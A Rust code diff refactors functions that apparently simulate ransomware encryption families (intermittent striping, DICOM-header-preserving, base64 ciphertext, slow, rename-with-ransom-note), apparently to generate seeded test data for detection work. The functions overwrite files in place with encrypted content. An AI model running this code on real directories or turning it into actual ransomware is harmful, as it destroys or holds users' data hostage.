@@ -77,6 +77,18 @@ fn append_ext(path: &Path, ext: &str) -> PathBuf {
     PathBuf::from(s)
 }
 
+/// Rewrites each file in place with `transform` (the families that keep the file's name).
+fn rewrite_in_place(
+    files: &[PathBuf],
+    mut transform: impl FnMut(Vec<u8>) -> Vec<u8>,
+) -> io::Result<()> {
+    for f in files {
+        let data = std::fs::read(f)?;
+        std::fs::write(f, transform(data))?;
+    }
+    Ok(())
+}
+
 /// Whole-file encryption, each file renamed with one attacker extension (`x.pdf` →
 /// `x.pdf.qkzvwd`), and a ransom note in every directory touched.
 pub fn encrypt_whole_with_rename_and_notes(
@@ -128,14 +140,13 @@ pub fn intermittent(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec<Path
     let mut r = ChaCha8Rng::seed_from_u64(seed);
     let files = pick_share(dir, &mut r, fraction)?;
     let mut c = Cipher::new(&mut r);
-    for f in &files {
-        let mut data = std::fs::read(f)?;
+    rewrite_in_place(&files, |mut data| {
         for stripe in data.chunks_mut(64 * 1024) {
             let n = stripe.len().min(16 * 1024);
             c.apply(&mut stripe[..n]);
         }
-        std::fs::write(f, &data)?;
-    }
+        data
+    })?;
     Ok(files)
 }
 
@@ -145,8 +156,7 @@ pub fn header_preserving(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec
     let mut r = ChaCha8Rng::seed_from_u64(seed);
     let files = pick_share(dir, &mut r, fraction)?;
     let mut c = Cipher::new(&mut r);
-    for f in &files {
-        let mut data = std::fs::read(f)?;
+    rewrite_in_place(&files, |mut data| {
         let keep = if data.get(128..132) == Some(b"DICM") {
             132
         } else {
@@ -154,8 +164,8 @@ pub fn header_preserving(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec
         };
         let keep = keep.min(data.len());
         c.apply(&mut data[keep..]);
-        std::fs::write(f, &data)?;
-    }
+        data
+    })?;
     Ok(files)
 }
 
@@ -186,8 +196,7 @@ pub fn base64_ciphertext(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec
     let mut r = ChaCha8Rng::seed_from_u64(seed);
     let files = pick_share(dir, &mut r, fraction)?;
     let mut c = Cipher::new(&mut r);
-    for f in &files {
-        let mut data = std::fs::read(f)?;
+    rewrite_in_place(&files, |mut data| {
         c.apply(&mut data);
         let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
         let mut out = String::with_capacity(b64.len() + b64.len() / 76 + 1);
@@ -195,8 +204,8 @@ pub fn base64_ciphertext(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec
             out.push_str(&String::from_utf8_lossy(line));
             out.push('\n');
         }
-        std::fs::write(f, out)?;
-    }
+        out.into_bytes()
+    })?;
     Ok(files)
 }
 
@@ -217,11 +226,10 @@ pub fn slow(dir: &Path, seed: u64, n_files: usize) -> io::Result<Vec<PathBuf>> {
     let mut r = ChaCha8Rng::seed_from_u64(seed);
     let files = pick(dir, &mut r, n_files)?;
     let mut c = Cipher::new(&mut r);
-    for f in &files {
-        let mut data = std::fs::read(f)?;
+    rewrite_in_place(&files, |mut data| {
         c.apply(&mut data);
-        std::fs::write(f, &data)?;
-    }
+        data
+    })?;
     Ok(files)
 }
 
